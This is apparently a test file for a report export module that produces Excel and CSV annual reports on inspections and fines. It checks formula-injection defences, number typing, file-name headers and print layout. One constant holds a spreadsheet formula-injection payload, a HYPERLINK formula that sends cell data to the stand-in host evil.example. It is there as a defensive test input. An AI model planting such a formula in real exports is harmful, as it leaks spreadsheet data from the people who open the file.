import ExcelJS from 'exceljs';
import {
  assembleAnnualReport,
  type DimensionCatalogue,
  type GroupedRows,
  parseCsv,
  ReportDimension,
  ReportMetric,
  ReportSheetKey,
  ReportSource,
} from '@libs/reports';
import { annualReportCsv, annualReportXlsx, attachment } from '@app/reports/report-exports';

/** Issue 12 finding 7: the workbook reads back with hostile text as inert strings and numbers as numbers. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")';
const CODE = '119/2020:Đ8.k4.e';

const dimensions = Object.fromEntries(
  [ReportDimension.Planning, ReportDimension.InspectionKind, ReportDimension.Reason, ReportDimension.IssuingBody, ReportDimension.DecisionKind, ReportDimension.LicenceKind].map(
    (d) => [d, []],
  ),
) as unknown as DimensionCatalogue;

function report() {
  const rows = Object.fromEntries(Object.values(ReportSource).map((s) => [s, []])) as unknown as GroupedRows;
  // A negative figure (a correction that lowered last year's amount, say) is a real number and must stay one.
  rows[ReportSource.Lines] = [
    { year: 2026, dim: ReportDimension.Code, key: CODE, values: { [ReportMetric.SanctionedActs]: 1, [ReportMetric.FinesImposed]: 50_000_000 } },
    { year: 2025, dim: ReportDimension.Code, key: CODE, values: { [ReportMetric.FinesImposed]: -5_000_000 } },
  ];
  return assembleAnnualReport({
    year: 2026,
    scope: { departmentId: 'd1', departmentName: '@Sở Văn hóa' },
    asOf: '2026-11-23',
    previousAsOf: '2025-12-31',
    rows,
    dimensions,
    codeLabels: new Map([[CODE, HYPERLINK]]),
  });
}

describe('annual report exports: formula injection (issue 12 finding 7)', () => {
  it('should write hostile text as strings with an apostrophe, never as formulas, and numbers as numbers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await annualReportXlsx(report())) as unknown as ArrayBuffer);
    const formulas: string[] = [];
    book.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
    expect(formulas).toEqual([]);
    const byCode = book.getWorksheet('Theo hành vi')!;
    const line = byCode.getRow(4);
    expect([line.getCell(1).value, line.getCell(2).type, line.getCell(2).value]).toEqual([CODE, ExcelJS.ValueType.String, `'${HYPERLINK}`]);
    // Số hành vi (năm, năm trước), tiền phạt (năm, năm trước)
    expect([line.getCell(5).type, line.getCell(5).value, line.getCell(6).value]).toEqual([ExcelJS.ValueType.Number, 50_000_000, -5_000_000]);
    expect(byCode.getCell(2, 1).value).toBe("'@Sở Văn hóa — năm 2026 so với năm 2025");
  });

  it('should write the same text inert in the CSV, with the negative figure as a plain number', () => {
    const rows = parseCsv(annualReportCsv(report(), ReportSheetKey.ByCatalogueCode));
    expect(rows[1].slice(0, 2)).toEqual([CODE, `'${HYPERLINK}`]);
    expect(rows[1][5]).toBe('-5000000');
  });

  it('should keep a file name header parseable whatever the name holds', () => {
    expect(attachment("báo cáo (bản 'cuối').csv")).toBe(
      `attachment; filename="bao cao (ban 'cuoi').csv"; filename*=UTF-8''b%C3%A1o%20c%C3%A1o%20%28b%E1%BA%A3n%20%27cu%E1%BB%91i%27%29.csv`,
    );
  });
});

describe('annual report workbook: printed as a department files it (issue 15)', () => {
  it('should fit every sheet to the page width on A4, turn the wide ones, repeat the header rows and number the pages', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await annualReportXlsx(report())) as unknown as ArrayBuffer);
    const setup = (name: string) => book.getWorksheet(name)!.pageSetup;
    for (const ws of book.worksheets) {
      expect(ws.pageSetup).toMatchObject({ paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:3' });
      expect(ws.headerFooter.oddFooter).toBe('&CTrang &P/&N');
    }
    // The per-act sheet (code, act, four yearly figures): 18 pages of one column each before.
    expect(setup('Theo hành vi').orientation).toBe('landscape');
    expect(setup('TTKT theo loại').orientation).toBe('portrait');
    // NĐ 30/2020 Phụ lục I: left margin 30 mm for binding, right 15 mm.
    expect(setup('Theo hành vi').margins).toMatchObject({ left: 1.18, right: 0.59 });
  });
});
